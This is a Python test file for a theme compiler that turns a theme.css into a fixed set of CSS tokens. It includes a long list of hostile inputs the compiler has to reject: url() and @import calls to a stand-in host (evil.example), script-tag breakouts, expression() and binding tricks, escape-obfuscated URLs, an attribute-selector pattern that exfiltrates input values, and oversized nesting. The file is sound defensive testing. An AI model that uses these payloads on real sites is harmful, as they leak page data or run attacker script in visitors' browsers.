"""Whatever a theme.css holds, only literal values of our own grammar come out of it."""

import re
from collections import defaultdict

import pytest

from aldaba.themes.compiler import compile_theme
from aldaba.themes.stylesheet import LARGEST, read_stylesheet
from aldaba.themes.theme import Asset

NUMBER = r"-?\d+(\.\d+)?"
LENGTH = rf"(0|{NUMBER}(px|em))"
COLOUR = r"#[0-9a-f]{6}"
FAMILY = r"(\"[A-Za-z0-9 _-]+\"|[a-z-]+|Georgia|Roboto|Consolas)"
LAYER = rf"(inset )?{LENGTH}( {LENGTH}){{1,3}} rgb\(\d+ \d+ \d+ / {NUMBER}\)"
VALUE = rf"({COLOUR}|{LENGTH}|{FAMILY}(,{FAMILY})*|{LAYER}(, {LAYER})*)"
BLOCK = rf"\.aldaba\{{--a-[a-z-]+:{VALUE}(;--a-[a-z-]+:{VALUE})*\}}"
FACE = (
    r"@font-face\{font-family:\"aldaba-casa-[a-z0-9_-]+\";([a-z-]+:[A-Za-z0-9+, -]+;)*"
    r"src:url\(\"/c/casa_[A-Za-z0-9_-]+\.[0-9a-f]{16}\.woff2\"\) format\(\"woff2\"\)\}\n"
)
OUTPUT = re.compile(
    rf"({FACE})*\.aldaba\{{color-scheme:light dark\}}\n{BLOCK}\n"
    rf"@media \(prefers-color-scheme:dark\)\{{{BLOCK}\}}\Z"
)
BRAND = ":root { --brand: #0a5c36 }\n"


class AnyFont(defaultdict[str, Asset]):
    def __missing__(self, path: str) -> Asset:
        return Asset(f"casa_{path[6:-6]}", "0123456789abcdef", "font/woff2", b"")


def compiled(source: str) -> str:
    return compile_theme("casa", read_stylesheet(BRAND + source), AnyFont()).css


HOSTILE = [
    ":root { --brand: url(https://evil.example/a) }",
    ':root { --brand: url("https://evil.example/a") }',
    ":root { --surface: image-set('https://evil.example/a' 1x) }",
    ":root { --surface: -webkit-image-set(url(//evil.example/a) 1x) }",
    ":root { --surface: cross-fade(url(//evil.example/a), url(//evil.example/b)) }",
    ":root { --line: element(#secret) }",
    ":root { --line: paint(worklet) }",
    ":root { --line: src('https://evil.example') }",
    ":root { background: url(//evil.example/a) }",
    ":root { background-image: image('//evil.example/a') }",
    "@import 'https://evil.example/a.css';",
    "@import url(https://evil.example/a.css);",
    '@charset "utf-7"; @namespace x url(//evil.example);',
    "@font-face { font-family: X; src: url(https://evil.example/x.woff2) }",
    '@font-face { font-family: X; src: url("//evil.example/x.woff2") format("woff2") }',
    "@font-face { font-family: X; src: url(fonts/../../x.woff2) }",
    "@font-face { font-family: X; src: url(fonts/x.woff2), url(//evil.example/x.woff2) }",
    "@font-face { font-family: X; src: local('Arial'), url(fonts/x.woff2) }",
    '@font-face { font-family: X; src: url("fonts/x.woff2" evil("//evil.example")) }',
    '@font-face { font-family: "</style><script>alert(1)</script>"; src: url(fonts/x.woff2) }',
    "@font-face { font-family: X; src: url(fonts/x.woff2); x: expression(alert(1)) }",
    "@media screen { :root { --brand: url(//evil.example) } }",
    "@media (prefers-color-scheme: dark) { body { background: url(//evil.example) } }",
    "@media (prefers-color-scheme: dark) { @import '//evil.example'; }",
    "@media (prefers-color-scheme: dark) { :root { --surface: url(//evil.example) } }",
    "@supports (display: grid) { :root { --brand: url(//evil.example) } }",
    "@layer x { :root { background: url(//evil.example) } }",
    "@property --x { syntax: '<image>'; inherits: false; initial-value: url(//evil.example) }",
    "@container (width > 1px) { :root { background: url(//evil.example) } }",
    ":root { & input[value^='a'] { background: url(//evil.example/a) } }",
    ":root { body & { background: url(//evil.example) } }",
    ":root { @media print { background: url(//evil.example) } }",
    "input[value^=a] { background: url(//evil.example/a) }",
    ":root, </style><script>alert(1)</script> { --brand: red }",
    "</style><script>alert(1)</script>",
    ":root</style> { --surface: white }",
    ':root[x="</style><script>alert(1)</script>"] { --surface: white }',
    ":is(:root) { --surface: url(//evil.example) }",
    ':root { --font-body: "</style><script>alert(1)</script>" }',
    ':root { --font-body: "a\\"; } * { background: url(//evil.example) } x: \\"" }',
    ':root { --font-body: "\\3c/style\\3e\\3cscript\\3e" }',
    ":root { --font-body: \\3c\\2f style\\3e }",
    ":root { --font-body: Inter; } } * { background: url(//evil.example) }",
    ":root { --font-body: Inter, url(//evil.example) }",
    ":root { --font-body: var(--x, url(//evil.example)) }",
    ":root { --br\\61nd-x: u\\72l(//evil.example) }",
    ":root { --surface: \\75 rl(//evil.example) }",
    ":root { --surface: var(--x) }",
    ":root { --surface: env(x, url(//evil.example)) }",
    ":root { --x: { background: url(//evil.example) } }",
    ":root { --surface: {} ; background: url(//evil.example) }",
    ":root { --surface: #fff; } :root { --muted: [url(//evil.example)] }",
    ":root { --surface: expression(alert(1)) }",
    ":root { --surface: #fff !important }",
    ":root { behavior: url(//evil.example/x.htc) }",
    ":root { -moz-binding: url(//evil.example/x.xml#x) }",
    ":root { --radius: calc(1px + attr(x)) }",
    ":root { --radius: 1e999px }",
    ":root { --radius: -8px }",
    ":root { --space: 9999999em }",
    ":root { --shadow: 0 0 9999px url(//evil.example) }",
    ":root { --shadow: 0 0 0 99999px black }",
    ":root { --surface: rgb(1e999 nan infinity) }",
    ":root { --surface: color-mix(in srgb, url(x), red) }",
    ":root { --surface: light-dark(url(x), red) }",
    ":root { --surface: color(srgb) }",
    ":root { --surface: color() }",
    ":root { --surface: rgb() }",
    ":root { --surface: transparent }",
    ":root { --surface: currentcolor }",
    ":root { --surface: #ffffff80 }",
    ":root { --surface: 'javascript:alert(1)' }",
    "<!-- :root { --surface: url(//evil.example) } -->",
    ":root { --surface: url(//evil.example",
    ":root { --surface: url('//evil.example\n') }",
    "(" * 16_000,
    ":root {" * 4_000,
    ":root { --surface: " + "rgb(" * 5_000,
    ":root { --surface: \0url(//evil.example) }",
    ":root { --ſurface: white; --BRAND: url(x) }",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_snippet_is_a_fault_and_leaves_nothing_in_the_css(source: str) -> None:
    faults = read_stylesheet(BRAND + source).faults
    assert faults
    css = compiled(source)
    assert "url(" not in css
    assert OUTPUT.match(css), css


@pytest.mark.parametrize("source", HOSTILE)
def test_a_fault_is_one_short_line_that_can_be_printed(source: str) -> None:
    for fault in read_stylesheet(BRAND + source).faults:
        assert str(fault).isprintable()
        assert len(fault.message) < 300


def test_a_huge_file_is_refused_before_it_is_parsed() -> None:
    sheet = read_stylesheet(":root { --brand: red }" + " " * LARGEST)
    assert sheet.light == {}
    assert [str(fault) for fault in sheet.faults] == [
        "theme.css:1:1: error: larger than 32 KB; a theme is a page of tokens"
    ]


@pytest.mark.parametrize(
    ("written", "literal"),
    [
        ("#0A5C36", "#0a5c36"),
        ("#abc", "#aabbcc"),
        ("rgb(10, 92, 54)", "#0a5c36"),
        ("rgb(10 92 54 / 100%)", "#0a5c36"),
        ("hsl(152 80% 20%)", "#0a5c36"),
        ("oklch(51.975% 0.17686 142.495)", "#008000"),  # the example of CSS Color 4
        ("oklch(0.51975 44.215% 142.495deg)", "#008000"),
        ("teal", "#008080"),
        ("RebeccaPurple", "#663399"),
    ],
)
def test_a_colour_may_be_written_in_any_of_the_usual_ways(written: str, literal: str) -> None:
    sheet = read_stylesheet(f":root {{ --brand: {written} }}")
    assert sheet.faults == []
    assert sheet.light["brand"].value == literal


def test_fonts_of_the_folder_come_out_under_names_of_their_own_with_the_systems_after_them() -> (
    None
):
    css = compiled(
        '@font-face { font-family: "Inter Tight"; src: url("./fonts/Inter-400.woff2")'
        ' format("woff2"); font-weight: 100 900; unicode-range: U+0000-00FF, U+131; }'
        ":root { --font-body: 'inter tight', Verdana; --font-heading: Lora, serif }"
    )
    assert OUTPUT.match(css), css
    assert (
        '@font-face{font-family:"aldaba-casa-inter-tight";font-weight:100 900;'
        'unicode-range:U+0-FF,U+131-131;src:url("/c/casa_Inter-400.0123456789abcdef.woff2")'
    ) in css
    assert '--a-font-body:"aldaba-casa-inter-tight","Verdana",system-ui,' in css
    assert '--a-font-heading:"Lora",Georgia,"Times New Roman",serif;' in css


def test_a_dark_variant_goes_under_the_media_query_alone() -> None:
    css = compiled("@media (prefers-color-scheme: dark) { :root { --surface: #101418 } }")
    light, _, dark = css.partition("@media")
    assert "--a-surface:#ffffff" in light
    assert "--a-surface:#101418" in dark


@pytest.mark.parametrize(
    ("source", "where", "says"),
    [
        (":root {\n  --brand: blau;\n}", "2:12", "--brand: blau is no colour; write blue"),
        (":root {\n  --brand: red;\n  --radius: 1rem;\n}", "3:13", "px or em"),
        (":root {\n --brnad: red }", "2:2", "--brnad is not a token of a theme; write --brand"),
        ("\r\n\r\n  body { color: red }", "3:3", "only :root"),
        ("/* ñandú */ @import 'x';", "1:13", "@import is not read"),
        ("@media print { :root { } }", "1:1", "only @media (prefers-color-scheme: dark)"),
        (
            "@media (prefers-color-scheme: dark) {\n :root {\n  --radius: 3px }\n}",
            "3:3",
            "--radius is the same in light and dark",
        ),
        ("@font-face {\n font-family: X;\n src: url(x.ttf) }", "3:7", "src: write one file of"),
        ("@font-face { font-family: X }", "1:1", "needs font-family and src"),
    ],
)
def test_a_fault_names_its_line_and_column(source: str, where: str, says: str) -> None:
    (fault,) = read_stylesheet(source).faults
    assert f"{fault.line}:{fault.column}" == where
    assert says in fault.message
